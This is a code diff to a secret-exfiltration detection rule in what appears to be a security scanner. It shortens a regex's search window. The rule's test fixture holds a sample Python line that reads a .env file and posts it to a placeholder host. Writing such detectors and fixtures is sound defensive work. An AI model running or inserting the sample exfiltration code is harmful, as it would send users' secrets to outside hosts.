@@ -464,7 +464,7 @@ export const EXFILTRATION: readonly PatternRule[] = [
     pattern:
       /\b(?:open|read\w*|Path)\s*\(\s*["'`][^"'`\n]{0,60}(?:\.env(?:\.\w+)?|credentials(?:\.json)?|secrets?\.(?:ya?ml|json|toml))["'`]/g,
     beside:
-      /\b(\w{1,40})\s*=\s*[^\n]{0,60}(?:\.env(?:\.\w+)?|credentials(?:\.json)?|secrets?\.(?:ya?ml|json|toml))["'`][\s\S]{0,2000}\b(?:data|body|json|files|content)\s*[=:]\s*[^\n]{0,20}\b\1\b/,
+      /\b(\w{1,40})\s*=\s*[^\n]{0,60}(?:\.env(?:\.\w+)?|credentials(?:\.json)?|secrets?\.(?:ya?ml|json|toml))["'`][\s\S]{0,800}\b(?:data|body|json|files|content)\s*[=:]\s*[^\n]{0,20}\b\1\b/,
     finds: [
       { path: 'a.py', text: 'text = open(".env").read()\nrequests.post("https://example.net", data=text)\n' },
     ],
